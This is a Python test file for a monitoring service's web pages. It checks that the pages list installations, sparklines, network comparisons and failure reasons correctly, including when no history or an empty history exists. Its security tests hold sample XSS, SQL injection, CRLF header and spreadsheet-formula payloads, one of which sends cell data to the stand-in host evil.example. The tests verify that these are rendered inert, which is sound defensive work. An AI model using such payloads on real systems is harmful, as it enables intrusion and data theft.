"""The pages of the lines: what they show of a filled history, of none, and of hostile values."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.filled_history import NETWORKS, Filling, fill
from tests.support.histories import ANSWERS, PARTS, WELL, seen
from tests.support.page_reader import Reader
from tests.support.results import result
from tests.support.service import snapshot
from tests.support.spreadsheet import formulas
from tixd.asn.origin import Origin
from tixd.history import store
from tixd.history.recorder import Recorder
from tixd.page.installation_list import SORTS
from tixd.page.render import answer
from tixd.page.views import Answer, Asked
from tixd.reports.model import Installation
from tixd.results.response import PostOutcome
from tixd.runtime.status import HistoryView

NOW = 1_700_000_000

#: The pages here, with an installation that there is.
PAGES = ("/installations", "/installations/1/1", "/as", "/failed")


def ask(path: str, query: str = "", file: Path | None = None, **now: Any) -> Answer:
    """The answer of a role that has this history."""
    history = HistoryView(str(file)) if file else None
    return answer(Asked(path, query, "", snapshot(moment=float(NOW), history=history, **now)))


def page(*asked: Any, **now: Any) -> Reader:
    found = ask(*asked, **now)
    assert found.status == 200
    return Reader(found.body.decode())


def members(path: str, *asked: Any) -> dict[str, Any]:
    return json.loads(ask(f"{path}.json", *asked).body)


def named(row: dict[str, Any]) -> str:
    return f"{row['user']}/{row['installation']}"


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A day of 60 installations of all kinds."""
    path = tmp_path_factory.mktemp("history") / "h.sqlite"
    fill(path, Filling(installations=60))
    return path


@pytest.fixture
def empty(tmp_path: Path) -> Path:
    path = tmp_path / "h.sqlite"
    store.open_for_writing(str(path), PARTS).close()
    return path


def written(path: Path, *entries: str) -> Path:
    file = store.open_for_writing(str(path), PARTS)
    with store.transaction(file):
        PARTS[1].write(file, entries)
    file.close()
    return path


# --- what is shown -------------------------------------------------------------------------------


def test_each_kind_of_line_is_told_by_its_state_in_words(filled):
    kinds = Filling(installations=60).kinds()
    rows = [row for n in (1, 2) for row in members("/installations", f"page={n}", filled)["rows"]]
    states = {named(row): (row["state"], row["state_words"]) for row in rows}
    for (user, number), kind in kinds.items():
        state, words = states[f"{user}/{number}"]
        assert state == {
            "silent": "silent",
            "gone": "gone",
            "blocked": "blocked",
            "kept": "kept",
            "new": "new",
            "bad": state,
        }.get(kind, "well")
        begins = {"silent": "SILENT since", "gone": "GONE", "blocked": "CANNOT BE PROCESSED: perm"}
        assert words.startswith(begins.get(kind, ""))


def test_what_needs_attention_is_counted_above_the_list(filled):
    text = page("/installations", "", filled).text
    assert "60 known: 3 cannot be processed, 3 silent, 3 with kept results" in " ".join(
        text.split()
    )


def test_what_is_not_of_now_is_marked_and_has_no_colour(filled):
    found = page("/installations", "", filled)
    assert found.tables[0][1][1] == "CANNOT BE PROCESSED: permission denied"
    marked = [attrs["class"] for tag, attrs in found.elements if "old" in attrs.get("class", "")]
    gone = [row for row in found.tables[0] if row[1].startswith(("CANNOT", "SILENT", "GONE"))]
    assert len(marked) == 4 * len(gone)


@pytest.mark.parametrize("sort", SORTS)
def test_the_table_people_see_is_in_the_order_and_has_the_rows_of_json_and_csv(filled, sort):
    told = members("/installations", f"sort={sort}", filled)["rows"]
    shown = page("/installations", f"sort={sort}", filled).tables[0][1:]
    text = ask("/installations.csv", f"sort={sort}", filled).body.decode()
    saved = [*csv.DictReader(io.StringIO(text))]
    names = [*map(named, told)]
    assert names == [row[0] for row in shown] == [*map(named, saved)]
    assert [row["state_words"] for row in saved] == [row[1] for row in shown]


def test_a_sparkline_has_each_result_of_the_last_day_and_says_its_last_value(filled):
    found = members("/installations", "search=1/1", filled)
    assert len(found["days"]["1/1"]["at"]) == 143
    text = ask("/installations", "search=1/1", filled).body.decode()
    last = found["rows"][0]["down_usage"]
    assert found["days"]["1/1"]["down_usage"][-1] == last
    assert f"last {last:.2f}</title>" in text


@pytest.mark.parametrize(("span", "samples"), [("day", 143), ("week", 25), ("month", 7)])
def test_a_line_is_shown_over_a_day_a_week_and_a_month(filled, span, samples):
    found = members("/installations/2/3", f"span={span}", filled)
    assert (found["span"], len(found["series"]["at"])) == (span, samples)
    assert sum(found["series"]["results"]) in (143, 144)
    text = ask("/installations/2/3", f"span={span}", filled).body.decode()
    assert text.count('class="plot"') == 4
    assert ('class="range down"' in text) == (span != "day")


def test_a_day_of_which_some_hours_are_means_is_shown_by_the_hour(tmp_path):
    path = tmp_path / "h.sqlite"
    fill(path, Filling(installations=3))
    with contextlib.closing(store.open_for_writing(str(path), PARTS)) as file:
        for _ in range(6):
            assert PARTS[1].make_room(file)
    found = members("/installations/1/1", "", path)
    results = found["series"]["results"]
    assert (found["step_seconds"], len(results)) == (3600, 25)
    assert sum(results) in (143, 144)
    lows = found["series"]["down_usage_low"]
    assert lows[:6] == [None] * 6
    assert None not in lows[6:]
    assert "Means of an hour" in page("/installations/1/1", "", path).text


def test_the_pages_of_what_is_wrong_say_why_and_since_when(filled):
    kinds = {kind: key for key, kind in reversed(Filling(installations=60).kinds().items())}
    for kind, words in (
        ("kept", "HTTP 503 Service Unavailable"),
        ("rejected", "HTTP 400 Bad Request: no such installation"),
        ("bad", "not a JSON object"),
        ("blocked", "CANNOT BE PROCESSED: permission denied"),
    ):
        user, number = kinds[kind]
        assert words in page(f"/installations/{user}/{number}", "", filled).text, kind


def test_networks_are_compared_worst_first_and_small_ones_are_left_out(filled):
    found = members("/as", "", filled)
    medians = [
        min(n["down_quality"]["median"], n["up_quality"]["median"]) for n in found["networks"]
    ]
    assert medians == sorted(medians)
    assert len(found["rows"]) == len(found["networks"]) == 5
    table = page("/as", "", filled).tables[0][1:]
    for row, network in zip(table, found["networks"], strict=True):
        assert row[0] == f"AS{network['asn']} {network['as_name']}"
        median = network["down_usage"]["median"]
        assert row[2].startswith(f"{median:.2f} {network['grades']['down_usage']}")
    assert {name for _, name in NETWORKS[:5]} == {
        network["as_name"] for network in found["networks"]
    }


def test_links_lead_to_pages_and_words_that_there_are(filled):
    for path in PAGES:
        for tag, attrs in page(path, "", filled).elements:
            target, _, part = attrs.get("href", "").partition("#")
            if tag != "a" or not target.startswith("/"):
                continue
            found = ask(*target.partition("?")[::2], filled)
            assert found.status == 200, target
            assert not part or f'id="{part}"' in found.body.decode(), (path, target, part)


# --- nothing to show -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", PAGES)
def test_without_a_history_each_page_says_why_and_what_to_do(path):
    assert "set TIX_HISTORY to a file" in page(path).text
    standing_by = page(path, state="standing by", leader="host-2").text
    assert "look at the page of host-2, which leads" in standing_by
    assert json.loads(ask(f"{path}.json").body)["no_history"]
    assert ask(f"{path}.csv").status == 200


def test_an_empty_history_says_what_will_come(empty):
    assert "each appears with its first job" in page("/installations", "", empty).text
    assert "TIX_ASN_TABLE" in page("/as", "", empty).text
    assert "none is kept, none was rejected" in page("/failed", "", empty).text
    assert "No installation is found by “9/9”" in page("/installations", "search=9/9", empty).text


def test_an_installation_that_is_not_known_is_not_found_in_words(empty):
    found = ask("/installations/9/9", "", empty)
    assert found.status == 404
    assert "No installation 9/9 is known here" in Reader(found.body.decode()).text
    assert ask("/installations/9/9.json", "", empty).status == 404
    assert ask("/installations/9/x", "", empty).status == 404


def test_an_installation_without_results_has_empty_charts(tmp_path):
    path = written(tmp_path / "h.sqlite", seen(user=1, installation=1, at=NOW))
    text = page("/installations/1/1", "", path).text
    assert "No result is known yet" in text
    assert "no result yet" in text


# --- what others send ----------------------------------------------------------------------------

QUERIES = [
    "sort=", "sort=nonsense", "sort[]=usage", "page=0", "page=-1", "page=9e9", "page=" + "9" * 500,
    "page=%00", "span=year", "span=%27", "search=%", "search=%27%20OR%201=1--", "search=%ff%fe",
    "search=" + "a" * 1500, "%", "&&&==;", "a=b&" * 300,
    "search=%E2%80%AE%00%1b[31m", "sort=usage;--",
]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES, ids=lambda text: text[:20])
@pytest.mark.parametrize("path", PAGES)
def test_a_hostile_query_is_the_default_and_never_an_error(filled, path, query):
    for form in ("", ".json", ".csv"):
        found = ask(f"{path}{form}", query, filled)
        assert found.status == 200
        assert b"Traceback" not in found.body


@pytest.mark.parametrize(
    "path", ["/installations/0/0", f"/installations/{9**18}/1", "/installations/1/01/2", "/as/1"]
)
def test_a_path_that_names_nothing_is_not_found(filled, path):
    assert ask(path, "", filled).status == 404


#: What somebody may call a network, or answer in place of the tix-api.
HOSTILE = [
    "<script>alert(1)</script>",
    "</title></svg><img src=x onerror=alert(1)>",
    "\" onmouseover=alert(1) x=\"",
    "'; DROP TABLE results; --",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    "\x1b[31mred\x1b]0;title\x07",
    "\u202egnp.exe\u2066\u200f",
    "a\r\nSet-Cookie: x=1",
    "x" * 65_536,
]  # fmt: skip


def hostile_history(path: Path, text: str) -> Path:
    """Six installations in a network of this name, whose results somebody refuses with this."""
    entries = []
    for user in range(1, 7):
        job = Recorder(
            Installation(user, 1, "/"), lambda _: Origin(64500, text), lambda: float(NOW)
        )
        for number, fate in enumerate(("kept", "rejected", "posted")):
            said = PostOutcome("refused", f"HTTP 400 {text}", 400, body=text.encode())
            outcome = ANSWERS["posted"] if fate == "posted" else said
            job.add(result(NOW - 60 - number), "fresh", fate, outcome)
        job.state = {
            **WELL,
            "kept": 1,
            "reason": text,
            "setAside": 1,
            "setAsideReason": text,
            "trouble": text,
        }
        entries.append(job.text())
    return written(path, *entries)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_a_hostile_name_or_reason_is_shown_as_text_and_runs_nowhere(tmp_path, text):
    path = hostile_history(tmp_path / "h.sqlite", text)
    without = hostile_history(tmp_path / "plain.sqlite", "plain")
    for name in PAGES:
        found, plain = page(name, "", path), page(name, "", without)
        assert [tag for tag, _ in found.elements] == [tag for tag, _ in plain.elements]
        assert found.scripts() == ["/static/page.js"]
        shown = ask(name, "", path).body.decode()
        assert all(character.isprintable() or character == "\n" for character in shown)
        told = json.loads(ask(f"{name}.json", "", path).body)
        assert len(json.dumps(told)) < 10**6
        assert formulas(ask(f"{name}.csv", "", path).body.decode()) == []


def test_what_is_searched_for_is_shown_as_text(filled):
    text = "<script>alert(1)</script>"
    found = page("/installations", "search=%3Cscript%3Ealert(1)%3C/script%3E", filled)
    assert text in found.text
    assert found.scripts() == ["/static/page.js"]
    assert ("input", text) in [(tag, attrs.get("value")) for tag, attrs in found.elements]
